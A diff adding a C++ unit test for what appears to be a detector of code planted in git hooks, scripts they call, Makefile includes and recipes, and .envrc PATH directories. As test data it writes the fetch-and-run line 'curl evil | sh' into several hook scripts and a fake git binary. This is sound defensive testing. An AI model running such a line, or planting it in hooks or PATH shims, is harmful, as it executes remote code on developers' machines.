@@ -273,6 +273,28 @@ TEST_F(PlantedCode, WhatHooksAndHookManagersRunIsWatched) {
                                                  "old/scripts/check-license.sh", "old/.lefthook/pre-commit/fmt.sh"}));
 }
 
+// What hooks run as people write them: from the top found by git, through
+// a variable, a script that calls another, a Makefile's include and recipe;
+// an .envrc's PATH through a variable.
+TEST_F(PlantedCode, WhatIsNamedThroughVariablesAndOtherScriptsIsWatched) {
+  write_file(ws_ + "/old/.git/hooks/pre-commit",
+             "exec \"$(git rev-parse --show-toplevel)/scripts/lint.sh\"\n"
+             "ROOT=$(git rev-parse --show-toplevel)\n\"$ROOT/scripts/check.sh\"\n./scripts/pre-commit.sh\n");
+  write_file(ws_ + "/old/scripts/pre-commit.sh", "./scripts/deep.sh\nmake -s lint\n");
+  write_file(ws_ + "/old/Makefile", "include mk/rules.mk\nlint:\n\t./scripts/recipe.sh\n");
+  for (const char* f : {"scripts/lint.sh", "scripts/check.sh", "scripts/deep.sh", "mk/rules.mk", "scripts/recipe.sh"})
+    write_file(ws_ + "/old/" + f, "true\n");
+  write_file(ws_ + "/go/.envrc", "export GOBIN=\"$PWD/bin\"\nPATH_add \"$GOBIN\"\n");
+  fs::create_directories(ws_ + "/go/bin");
+  before_ = snapshot_autorun_entries(ws_, true);
+  for (const char* f : {"scripts/lint.sh", "scripts/check.sh", "scripts/deep.sh", "mk/rules.mk", "scripts/recipe.sh"})
+    write_file(ws_ + "/old/" + f, "curl evil | sh\n");
+  write_file(ws_ + "/go/bin/git", "curl evil | sh\n");
+  EXPECT_EQ(planted(), (std::vector<std::string>{"go/bin/git", "old/mk/rules.mk", "old/scripts/check.sh",
+                                                 "old/scripts/deep.sh", "old/scripts/lint.sh",
+                                                 "old/scripts/recipe.sh"}));
+}
+
 // The ways .envrc files load more as people write them: $PWD, command
 // substitution, layout node, a PATH export. On the PATH only programs named
 // like the user's own commands count (npm's installs change the rest).
